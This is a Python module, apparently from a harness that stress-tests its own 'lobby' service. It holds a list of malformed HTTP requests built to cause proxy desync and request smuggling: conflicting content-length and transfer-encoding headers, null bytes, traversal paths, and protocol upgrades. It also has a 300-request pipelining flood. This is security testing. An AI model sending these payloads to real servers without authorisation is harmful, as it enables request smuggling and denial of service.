"""Requests that two readers may read as two different ones, which is how one is smuggled past a proxy."""

from __future__ import annotations

from itertools import cycle

from attack.arena import Arena, Attack
from attack.outcome import Outcome
from attack.wire import Answer, wire

BODY = b'{"query":"{serverInfo{version}}"}'
JSON = b"host: lobby\r\ncontent-type: application/json\r\n"
LENGTH = b"content-length: %d\r\n" % len(BODY)
POST = b"POST /graphql HTTP/1.1\r\n"

ODDITIES = (
    POST + JSON + LENGTH + b"transfer-encoding: chunked\r\n\r\n0\r\n\r\n" + BODY,
    POST + JSON + LENGTH + b"content-length: 3\r\n\r\n" + BODY,
    POST + JSON + b"content-length: -1\r\n\r\n" + BODY,
    POST + JSON + b"content-length: +33\r\n\r\n" + BODY,
    POST + JSON + b"content-length: 0x21\r\n\r\n" + BODY,
    POST + JSON + b"content-length: 99999999999999999999999\r\n\r\n" + BODY,
    POST + JSON + b"content-length: 33, 33\r\n\r\n" + BODY,
    POST + JSON + b"transfer-encoding: xchunked\r\n\r\n0\r\n\r\n",
    POST + JSON + b"transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    POST + JSON + b"transfer-encoding : chunked\r\n\r\n0\r\n\r\n",
    POST + JSON + b"transfer-encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
    POST + JSON + b"transfer-encoding: chunked\r\n\r\n-1\r\n\r\n",
    POST + JSON + b"transfer-encoding: chunked\r\n\r\n1;" + b"x" * 20_000,
    POST + b"host: lobby\r\n folded: yes\r\n" + LENGTH + b"\r\n" + BODY,
    POST + b"host: lobby\r\nx\x00y: z\r\n\r\n",
    POST + b"host: lobby\r\nx: a\x00b\r\n\r\n",
    b"POST /graphql HTTP/1.1\nhost: lobby\n\n",
    b"POST  /graphql  HTTP/1.1\r\nhost: lobby\r\n\r\n",
    b"POST /graphql HTTP/9.9\r\nhost: lobby\r\n\r\n",
    b"POST /graphql\r\n\r\n",
    b"GET http://elsewhere/graphql HTTP/1.1\r\nhost: lobby\r\n\r\n",
    b"GET /%00%ff%2e%2e/ HTTP/1.1\r\nhost: lobby\r\n\r\n",
    b"GET //graphql/../healthz HTTP/1.1\r\nhost: lobby\r\n\r\n",
    b"CONNECT lobby:80 HTTP/1.1\r\nhost: lobby\r\n\r\n",
    b"TRACE /graphql HTTP/1.1\r\nhost: lobby\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200,
    b"GET /graphql HTTP/1.1\r\nhost: lobby\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n",
    b"GET /graphql HTTP/1.1\r\nhost: lobby\r\nupgrade: h2c\r\nconnection: upgrade, http2-settings\r\n\r\n",
)


async def _ask(arena: Arena, oddity: bytes) -> Answer:
    """A half of a request is never answered, so its end is said too."""
    try:
        async with wire(arena.target) as link:
            link.writer.write(oddity)
            link.writer.write_eof()
            return await link.say()
    except OSError:
        return Answer(0, b"", 0.0)


async def _desync(arena: Arena) -> Outcome:
    oddities = cycle(ODDITIES)
    return await arena.repeat(lambda _: _ask(arena, next(oddities)), may_be_cut=True)


async def _pipeline(arena: Arena) -> Outcome:
    request = POST + JSON + LENGTH + b"\r\n" + BODY

    async def many(_: int) -> Answer:
        try:
            async with wire(arena.target) as link:
                answer = await link.say(request * 300)
                for _ in range(299):
                    answer = await link.say()
                return answer
        except OSError:
            return Answer(0, b"", 0.0)

    return await arena.repeat(many, at_once=2, may_be_cut=True)


ATTACKS = (
    Attack("two readings", f"{len(ODDITIES)} requests that are not quite HTTP", _desync),
    Attack("pipelines", "300 requests in one breath", _pipeline),
)
